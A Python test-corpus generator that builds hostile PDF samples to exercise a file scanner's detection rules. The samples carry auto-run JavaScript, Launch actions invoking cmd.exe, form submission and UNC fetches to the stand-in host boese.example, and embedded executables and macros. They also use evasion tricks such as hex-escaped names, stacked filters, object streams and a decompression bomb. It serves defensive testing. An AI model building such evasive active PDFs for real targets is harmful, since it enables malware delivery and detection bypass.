# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile files, line 79 and the encrypted ones of 66: PDF that runs, opens, sends, carries or hides."""
import base64
import binascii
import zlib

import ole
import pdf
from corpus import bad_file
from inert import exe
from office import docx
from zips import plain

JS = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
RULE = "pdf_active"


def bad(name, data, why, rule=RULE, line=79):
    bad_file(f"{name}.pdf", data, rule, line, why)


def one(catalog="", page_more="", objects=None, **more):
    return pdf.write(pdf.page(catalog=catalog, page_more=page_more, objects=objects), **more)


def make():
    scripts()
    actions()
    carrying()
    hiding()
    locked()


def scripts():
    bad("js-open", one(f"/OpenAction {JS}"), "JavaScript at opening")
    bad("js-open-object", one("/OpenAction 6 0 R", objects={6: JS}), "JavaScript at opening, in its own object")
    bad("js-stream", one("/OpenAction<</S/JavaScript/JS 6 0 R>>", objects={6: pdf.stream("app.alert(1)")}), "JavaScript in a stream")
    bad("js-names", one("/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", objects={6: JS}), "JavaScript in the name tree")
    bad("js-names-kids", one("/Names<</JavaScript<</Kids[7 0 R]>>>>", objects={6: JS, 7: "<</Limits[(a)(a)]/Names[(a) 6 0 R]>>"}), "JavaScript in the name tree's child")
    bad("js-page", one(page_more=f"/AA<</O {JS}>>"), "JavaScript when a page opens")
    bad("js-catalog-close", one(f"/AA<</WC {JS}>>"), "JavaScript when the document closes")
    bad("js-annotation", one(page_more="/Annots[6 0 R]", objects={6: f"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A {JS}>>"}), "JavaScript at a link")
    bad("js-field", one("/AcroForm<</Fields[6 0 R]>>", "/Annots[6 0 R]", {6: f"<</FT/Tx/T(a)/Subtype/Widget/Rect[0 0 9 9]/AA<</K {JS}>>>>"}), "JavaScript at a key in a form")
    bad("js-calculate", one("/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>", objects={6: f"<</FT/Tx/T(a)/AA<</C {JS}>>>>"}), "JavaScript that reckons in a form")
    bad("js-next", one("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>", objects={6: JS}), "JavaScript behind a harmless action")
    bad("js-next-array", one("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[7 0 R 6 0 R]>>", objects={6: JS, 7: "<</S/GoTo/D[3 0 R/Fit]>>"}), "JavaScript among the actions behind a harmless one")
    bad("js-outline", one("/Outlines 6 0 R", objects={6: "<</First 7 0 R/Last 7 0 R/Count 1>>", 7: f"<</Title(a)/Parent 6 0 R/A {JS}>>"}), "JavaScript in the table of contents")
    bad("js-rendition", one(page_more="/Annots[6 0 R]", objects={6: "<</Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>>>"}), "JavaScript of a rendition")
    bad("xfa", one("/AcroForm<</Fields[]/XFA 6 0 R>>", objects={6: pdf.stream("<xdp:xdp><template><script>x</script></template></xdp:xdp>")}), "an XFA form")
    bad("xfa-array", one("/AcroForm<</Fields[]/XFA[(template) 6 0 R]>>", objects={6: pdf.stream("<template/>")}), "an XFA form in pieces")


def actions():
    for name, action in {"launch": "<</S/Launch/F(start.exe)>>", "launch-win": "<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", "launch-mac": "<</S/Launch/Mac(x)>>",
                         "submit": "<</S/SubmitForm/F(http://boese.example/x)/Flags 4>>", "import": "<</S/ImportData/F(a.fdf)>>", "gotoe": "<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>",
                         "gotor-unc": "<</S/GoToR/F(\\\\\\\\boese.example\\\\a\\\\b.pdf)/D[0/Fit]>>", "uri-open": "<</S/URI/URI(http://boese.example/)>>"}.items():
        rule = RULE + " | remote | link_disguised | link_listed"
        bad("open-" + name, one(f"/OpenAction {action}"), "an action at opening that does more than show a page", rule)
        if name != "uri-open":
            bad("link-" + name, one(page_more="/Annots[6 0 R]", objects={6: f"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A {action}>>"}), "an action at a link that does more than lead somewhere", rule)
    rich = "<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a.swf) 7 0 R]>>>>>>"
    bad("richmedia", one(page_more="/Annots[6 0 R]", objects={6: rich, 7: "<</F(a.swf)/EF<</F 8 0 R>>>>", 8: pdf.stream(b"FWS\x08" + bytes(30))}), "rich media", RULE + " | embedded | program | unknown_kind")
    bad("3d", one(page_more="/Annots[6 0 R]", objects={6: "<</Subtype/3D/Rect[0 0 9 9]/3DD 7 0 R>>", 7: pdf.stream("U3D", "/Type/3D/Subtype/U3D/OnInstantiate 8 0 R"), 8: pdf.stream("x=1;")}), "a model with a script", RULE + " | embedded")
    bad("external-stream", one("/OpenAction<</S/JavaScript/JS 6 0 R>>", objects={6: b"<</F(http://boese.example/x.js)/Length 0>>\nstream\n\nendstream"}), "a script whose stream lies elsewhere", RULE + " | remote")


def carrying():
    rule = "program | embedded | script | macro | html_active | encrypted | mismatch | name"
    for name, inside in {"start.exe": exe(), "bericht.pdf": exe(), "a.js": b"var a = 1;\r\n", "a.bat": b"@echo off\r\n", "a.html": b"<html><script>x()</script></html>",
                         "a.zip": plain({"start.exe": exe()}), "a.docx": docx(kind="docm", parts={"word/vbaProject.bin": ole.compound(ole.vba())}),
                         "b.pdf": one(f"/OpenAction {JS}")}.items():
        catalog, objects = pdf.embedded(name, inside)
        bad("file-" + name.replace(".", "-"), pdf.write(pdf.page(catalog=catalog, objects=objects)), "a file in it that may not pass by itself", rule + " | pdf_active")
    bad("file-annotation", one(page_more="/Annots[6 0 R]", objects={6: "<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 7 0 R>>", 7: "<</F(start.exe)/EF<</F 8 0 R>>>>",
        8: pdf.stream(exe(), "/Type/EmbeddedFile")}), "a program pinned to a page", rule)
    catalog, objects = pdf.embedded("factur-x.xml", exe(), kind="text/xml", relation="/AFRelationship/Data")
    bad("file-facturx-exe", pdf.write(pdf.page(catalog=catalog, objects=objects)), "a program called an invoice's data", rule)
    catalog, objects = pdf.embedded("start.exe", exe())
    bad("portfolio", pdf.write(pdf.page(catalog=catalog + "/Collection<</View/T>>", objects=objects)), "a portfolio with a program", rule)


def hiding():
    esc = {"js": "/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>", "open": f"/Open#41ction {JS}", "all": "/OpenAction<</#53/#4a#61#76#61#53#63#72#69#70#74/#4a#53(x)>>",
           "launch": "/OpenAction<</S/L#61unch/F(a.exe)>>", "names": "/N#61mes<</Java#53cript<</Names[(a) 6 0 R]>>>>"}
    for name, catalog in esc.items():
        bad("escape-" + name, one(catalog, objects={6: JS}), "a name written by its numbers")
    bad("js-hex-string", one("/OpenAction<</S/JavaScript/JS<6170702e616c657274283129>>>"), "JavaScript as a hexadecimal string")
    bad("object-stream", pdf.write_streams(pdf.page(catalog="/OpenAction 6 0 R", objects={6: JS})), "JavaScript in an object stream")
    bad("object-stream-names", pdf.write_streams(pdf.page(catalog="/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", objects={6: JS})), "JavaScript of the name tree in an object stream")
    bad("object-stream-launch", pdf.write_streams(pdf.page(catalog="/OpenAction<</S/Launch/F(a.exe)>>")), "a launch in an object stream")
    good = one()
    bad("update-js", pdf.update(good, {1: f"<</Type/Catalog/Pages 2 0 R/OpenAction {JS}>>"}), "JavaScript added by an update")
    bad("update-root", pdf.update(good, {80: f"<</Type/Catalog/Pages 2 0 R/OpenAction {JS}>>"}, 80), "an update with another root")
    bad("late-100", b"Briefkopf\r\n" * 9 + one(f"/OpenAction {JS}"), "JavaScript in a PDF that begins late", RULE + " | polyglot | unknown_kind | mismatch")
    broken = one(f"/OpenAction {JS}")
    cut = broken.index(b"xref\n")
    bad("no-xref", broken[:cut] + b"trailer\n<</Root 1 0 R>>\n%%EOF\n", "JavaScript, the cross reference missing: readers mend it", RULE + " | unreadable")
    bad("xref-wrong", broken.replace(b"startxref\n", b"startxref\n9"), "JavaScript, the cross reference wrong: readers mend it", RULE + " | unreadable")
    bad("no-eof", broken[:cut], "JavaScript, no end at all", RULE + " | unreadable")
    for name, filters, pack in (("ahx", "/Filter/ASCIIHexDecode", lambda raw: binascii.hexlify(raw) + b">"), ("a85", "/Filter/ASCII85Decode", lambda raw: base64.a85encode(raw) + b"~>"),
                                ("two", "/Filter[/ASCIIHexDecode/FlateDecode]", lambda raw: binascii.hexlify(zlib.compress(raw)) + b">"), ("short-names", "/Filter[/AHx/Fl]", lambda raw: binascii.hexlify(zlib.compress(raw)) + b">")):
        bad("filter-" + name, pdf.write_streams(pdf.page(catalog="/OpenAction 6 0 R", objects={6: JS}), filters=filters, pack=pack), "JavaScript in an object stream behind other filters", RULE + " | unreadable")
    bad("comment-inside", one("/OpenAction<</S%x\n/JavaScript%y\n/JS(x)>>"), "comments between the words")
    bad("white-space", one("/OpenAction\0<<\f/S\t/JavaScript\r/JS (x) >>"), "white space of every kind")
    bad("cr-only", one(f"/OpenAction {JS}", eol=b"\r"), "lines that end in CR alone")
    bad("version-odd", one(f"/OpenAction {JS}", version="9.9"), "a version that does not exist", RULE + " | unreadable | unknown_kind")
    bad("bomb-stream", pdf.write_streams(pdf.page(), behind=bytes(120 << 20)), "an object stream of 120 MB", "too_big | unreadable")
    bad("garbage", b"%PDF-1.7\n" + bytes((n * 31) % 256 for n in range(700)), "a first line and nothing behind it that can be read", "unreadable | unknown_kind | mismatch")


def locked():
    crypt = "/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O(" + "o" * 32 + ")/U(" + "u" * 32 + ")>>/ID[(abcdefgh)(abcdefgh)]"
    bad("password", one(trailer=crypt), "opens with a password only", "encrypted", 66)
    bad("password-aes", one(trailer="/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -44/O(" + "o" * 48 + ")/U(" + "u" * 48 + ")/OE(" + "e" * 32 + ")/UE(" + "f" * 32 + ")/Perms(" + "p" * 16 + ")/StmF/StdCF/StrF/StdCF/CF<</StdCF<</CFM/AESV3/AuthEvent/DocOpen/Length 32>>>>>>/ID[(abcdefgh)(abcdefgh)]"),
        "opens with a password only, AES", "encrypted", 66)
    bad("password-streams", pdf.write_streams(pdf.page(), trailer=crypt), "opens with a password only, cross reference as a stream", "encrypted | unreadable", 66)
    bad("public-key", one(trailer="/Encrypt<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s4/V 1/Recipients[(x)]>>"), "encrypted for one certificate", "encrypted | unreadable", 66)
    bad("password-wrapper", one(f"/OpenAction {JS}", trailer=crypt), "JavaScript and a password", "encrypted | pdf_active", 66)
